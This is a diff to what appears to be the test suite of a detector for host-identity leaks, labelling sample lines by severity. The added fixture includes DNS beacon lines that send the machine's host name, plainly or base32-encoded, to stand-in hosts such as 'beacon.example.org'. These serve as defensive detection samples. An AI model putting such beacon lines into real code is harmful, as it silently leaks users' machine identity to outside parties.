@@ -11,6 +11,15 @@ from test_fact_severity import _by_line
 HOST = "host-identity-sent-over-network"
 
 CASES = [
+    # a name under .local goes to multicast DNS on the link (jupyter_client's fallback when the host name is loopback);
+    # the same name under a real domain, or encoded, is a DNS beacon
+    ("host-name-under-dot-local-is-mdns", HOST, "localinterfaces.py",
+     "import socket, base64\n"
+     "ips = socket.gethostbyname_ex(socket.gethostname() + '.local')[2]\n"
+     "socket.gethostbyname(socket.gethostname() + '.local.cdn-telemetry.net')\n"
+     "tag = base64.b32encode(socket.gethostname().encode()).decode()\n"
+     "socket.gethostbyname(tag + '.beacon.example.org')\n",
+     {2: "low", 3: "high", 5: "high"}),
     ("identity-to-public-ip", HOST, "m.py",
      "import socket, requests\n"
      "info = {'h': socket.gethostname()}\n"
